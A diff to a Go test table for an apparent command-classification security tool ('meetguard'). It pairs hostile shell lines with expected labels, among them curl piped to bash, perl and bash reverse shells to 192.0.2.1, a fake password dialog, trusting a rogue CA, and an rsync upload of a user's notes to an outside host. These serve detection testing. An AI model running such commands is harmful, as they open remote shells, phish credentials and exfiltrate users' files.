@@ -106,7 +106,7 @@ func TestDeeds(t *testing.T) {
 		"sh -c 'curl -s https://a.invalid | bash'":                      "fetch  a.invalid curl; read commands   bash",
 		"osascript -e 'display dialog \"Password\" with hidden answer'": "ask password   osascript",
 		"unzip -o /var/tmp/V.zip -d /var/tmp/V":                         "run /var/tmp/V.zip  unpack; unpack /var/tmp/V  unzip",
-		`perl -MIO::Socket -e 'IO::Socket::INET->new("192.0.2.1:443");exec("/bin/sh -i")'`: "connect   perl",
+		`perl -MIO::Socket -e 'IO::Socket::INET->new("192.0.2.1:443");exec("/bin/sh -i")'`: "connect  192.0.2.1 perl; run /bin/sh  program",
 		"bash -c 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1'":                                 "connect  192.0.2.1 bash",
 		"bash -c 'echo > /dev/tcp/192.0.2.1/443'":                                          "",
 		`node -e 'eval(atob("YQ=="))'`:                                                     "encoded   inline",
@@ -116,9 +116,9 @@ func TestDeeds(t *testing.T) {
 		"bash /dev/fd/63": "read commands   bash",
 		"security add-trusted-cert -d -k /Library/Keychains/System.keychain /tmp/ca.pem": "trust /tmp/ca.pem  security",
 		"networksetup -setautoproxyurl Wi-Fi http://a.invalid/p.pac":                     "trust  a.invalid networksetup",
-		"rsync -az /home/ana/notes drop@203.0.113.77:/in/":                               "pack drop@203.0.113.77:/in/  copy; upload  203.0.113.77 rsync",
+		"rsync -az /home/ana/notes drop@203.0.113.77:/in/":                               "pack drop@203.0.113.77:/in/notes  copy; upload /home/ana/notes 203.0.113.77 rsync",
 		"python3 -c 'print(1)'":            "",
-		"git clone https://github.com/a/b": "",
+		"git clone https://github.com/a/b": "fetch b github.com git",
 	} {
 		words := Split("linux", line)
 		f := meetguard.Facts{Process: &meetguard.Process{OS: "linux", Exe: words[0], Args: words}}
